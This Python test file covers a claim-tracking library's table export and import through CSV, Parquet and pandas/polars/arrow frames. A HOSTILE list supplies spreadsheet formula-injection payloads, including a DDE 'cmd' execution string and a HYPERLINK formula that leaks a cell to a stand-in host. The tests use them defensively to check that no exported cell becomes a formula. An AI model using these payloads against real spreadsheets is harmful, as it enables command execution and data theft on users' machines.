"""Tables: what they carry comes back from CSV, Parquet and frames; no cell is a formula."""

from __future__ import annotations

import csv
import tracemalloc
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from claimtrack import Anchor, Claim, ReadError, Speaker, from_frame, read_table, to_frame, write_table
from claimtrack.exchange import COLUMNS
from claimtrack.exchange.cells import from_cell, to_cell
from claimtrack.exchange.columns import to_rows
from claimtrack.models import ClaimAttribution, ClaimFigure, Rating, Review
from tests.models.strategies import values

EXAMPLES = settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture]
)
HOSTILE = [
    '=HYPERLINK("https://x.example?"&A1,"the quay")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'",
    "''=1",
    "'tis the quay",
    'one "quoted" line\r\nand, another\nline\rend',
    "\u202eyauq eht",
    "שלום, the quay",
    "\ufeffquay",
]


def mapped(claim: Claim) -> list[dict[str, Any]]:
    told = {column.name for column in COLUMNS["claims"] if column.told}
    return [{name: cell for name, cell in row.items() if name not in told} for row in to_rows(claim)]


@given(st.text())
def test_a_cell_comes_back_and_is_no_formula(text: str) -> None:
    cell = to_cell(text)
    assert from_cell(cell) == text
    assert cell[:1] not in set("=+@\t\r\n＝＋－＠")
    assert cell[:1] != "-" or Decimal(cell) < 0 or Decimal(cell) == 0


@pytest.mark.parametrize("name", ["claims.csv", "claims.csv.gz", "claims.parquet"])
@EXAMPLES
@given(several=st.lists(values(Claim), max_size=3))
def test_what_a_claims_table_carries_comes_back(several: list[Claim], name: str, tmp_path: Path) -> None:
    assert write_table(several, tmp_path / name) == len(several)
    back = [row.value for row in read_table(tmp_path / name)]
    for row, claim in zip(back, several, strict=True):
        assert isinstance(row, Claim)
        assert mapped(row) == mapped(claim)


@pytest.mark.parametrize("name", ["figures.csv", "figures.parquet"])
@EXAMPLES
@given(figures=st.lists(values(ClaimFigure), max_size=3))
def test_figures_come_back_whole(figures: list[ClaimFigure], name: str, tmp_path: Path) -> None:
    claim = Claim(id="quay-7", kind="direct", statement="The quay is safe", figures=tuple(figures))
    assert write_table([claim], tmp_path / name, rows="figures") == len(figures)
    back: list[Any] = [row.value for row in read_table(tmp_path / name, rows="figures")]
    assert [(one.claim_id, one.number, one.figure) for one in back] == [
        ("quay-7", number, figure) for number, figure in enumerate(figures, start=1)
    ]


@pytest.mark.parametrize("name", ["speakers.csv", "speakers.csv.gz", "speakers.parquet"])
@EXAMPLES
@given(speakers=st.lists(values(Speaker), max_size=3))
def test_speakers_come_back_whole(speakers: list[Speaker], name: str, tmp_path: Path) -> None:
    claim = Claim(id="quay-7", kind="direct", statement="The quay is safe", speakers=tuple(speakers))
    assert write_table([claim], tmp_path / name, rows="speakers") == len(speakers)
    back: list[Any] = [row.value for row in read_table(tmp_path / name, rows="speakers")]
    assert [(one.claim_id, one.number, one.speaker) for one in back] == [
        ("quay-7", number, speaker) for number, speaker in enumerate(speakers, start=1)
    ]


def test_a_speaker_s_row_tells_of_the_claim_as_well() -> None:
    via = Speaker(kind="person", name="Tom Reed")
    attribution = ClaimAttribution(content=(Anchor(start=0, end=4, exact="quay"),), via=via)
    claim = Claim(
        id="quay-7",
        article_id="quay",
        kind="indirect",
        statement="The quay is safe",
        speakers=(Speaker(kind="person", name="Ann Silva"),),
        speech_act="denied",
        attribution=attribution,
        made_on="2025-04-07",
        verdict="false",
    )
    (row,) = to_rows(claim, rows="speakers")
    assert {column.name: row[column.name] for column in COLUMNS["speakers"] if column.told} == {
        "article_id": "quay",
        "claim_kind": "indirect",
        "statement": "The quay is safe",
        "speech_act": "denied",
        "made_on": "2025-04-07",
        "via": "Tom Reed",
        "claim_verdict": "false",
    }


@pytest.mark.parametrize("library", ["pandas", "polars", "arrow"])
def test_frames_of_every_library_come_back(library: Any) -> None:
    pytest.importorskip("pyarrow" if library == "arrow" else library)
    figure = ClaimFigure(anchor=Anchor(start=4, end=6, exact="40"), kind="count", value=Decimal("40.0"), role="killed")
    review = Review(id="ours", verdict="false", rating=Rating(label="Faux", language="fr"))
    claims = [
        Claim(id="quay-1", kind="direct", statement="The quay is safe", tags=("port", "a, b"), reviews=(review,)),
        Claim(
            id="quay-2", kind="narration", statement="All 40", figures=(figure,), speakers=(Speaker(kind="unknown"),)
        ),
    ]
    assert [row.value for row in from_frame(to_frame(claims, library=library))] == [
        claims[0],
        claims[1].replace(figures=()),
    ]
    (row,) = from_frame(to_frame(claims, rows="figures", library=library), rows="figures")
    assert row.value is not None
    assert row.value.figure == figure  # type: ignore[union-attr]


def test_hostile_statements_are_no_formulas_in_the_file_and_come_back(tmp_path: Path) -> None:
    claims = [
        Claim(id=f"quay-{number}", kind="direct", statement=text, tags=("=1+1",))
        for number, text in enumerate([*HOSTILE, "x" * 10_000_000])
    ]
    path = tmp_path / "claims.csv"
    write_table(claims, path)
    assert [row.value for row in read_table(path)] == claims
    with path.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert len(cells) == len(COLUMNS["claims"]) * (len(claims) + 1)
    assert [cell for cell in cells if cell[:1] in set("=+-@\t\r\n")] == []


def test_a_bad_row_is_a_finding_with_its_number_and_the_others_still_come(tmp_path: Path) -> None:
    path = tmp_path / "claims.csv"
    write_table([Claim(id=f"quay-{number}", kind="direct", statement="It is safe") for number in range(3)], path)
    path.write_text(path.read_text("utf-8").replace("quay-1,,direct", "quay-1,,shouted"), "utf-8")
    rows = list(read_table(path))
    assert [row.value is not None for row in rows] == [True, False, True]
    assert (rows[1].number, rows[1].findings[0].path) == (3, "$.kind")
    assert rows[1].findings[0].source == f"{path}: row 3"


def test_another_file_is_no_table(tmp_path: Path) -> None:
    other = tmp_path / "other.csv"
    other.write_text("name,age\nAnn,40\n", "utf-8")
    (tmp_path / "other.parquet").write_bytes(b"PAR1")
    for path in (other, tmp_path / "other.parquet", tmp_path / "none.csv", tmp_path / "none.parquet", tmp_path):
        with pytest.raises(ReadError):
            list(read_table(path))
    with pytest.raises(ReadError, match="no data frame"):
        list(from_frame(object()))


def test_the_columns_stand_in_the_docs_with_their_version() -> None:
    text = Path(__file__).parents[2].joinpath("docs", "exchange.md").read_text("utf-8")
    for columns in COLUMNS.values():
        assert [column.name for column in columns if f"`{column.name}`" not in text] == []
    assert "claimtrack.claims-table/1" in text
    assert "claimtrack.figures-table/1" in text
    assert "claimtrack.speakers-table/1" in text


@pytest.mark.parametrize("name", ["claims.csv", "claims.parquet"])
def test_memory_does_not_grow_with_the_number_of_claims(tmp_path: Path, name: str) -> None:
    claim = Claim(id="quay-7", kind="direct", statement="The quay is safe " * 20)
    write_table([claim], tmp_path / name)

    def peak(count: int) -> int:
        tracemalloc.start()
        assert write_table((claim for _ in range(count)), tmp_path / name) == count
        size = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return size

    assert peak(12_000) < peak(4000) * 1.5
